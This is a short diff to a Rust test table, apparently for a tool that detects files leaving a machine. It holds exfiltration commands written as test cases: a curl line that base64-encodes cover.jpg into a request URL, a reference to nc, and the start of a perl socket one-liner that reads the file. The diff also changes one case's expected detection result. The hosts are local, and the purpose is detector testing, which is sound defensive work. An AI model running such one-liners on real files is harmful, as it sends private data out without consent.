@@ -75,11 +75,12 @@ fn every_way_out() {
             "nc",
             "proven correlated",
         ),
+        // The shell gets it from one child and starts the other with it.
         (
-            "curl -sS \"http://127.0.0.1:$P/$(tail -c 40 cover.jpg | base64 -w0)\" >/dev/null",
+            "curl -sS \"http://127.0.0.1:$P/$(base64 -w0 cover.jpg)\" >/dev/null",
             "cover.jpg",
             "curl",
-            "correlated",
+            "",
         ),
         (
             "perl -MIO::Socket::INET -e 'open F, \"cover.jpg\"; local $/; my $d = <F>; \
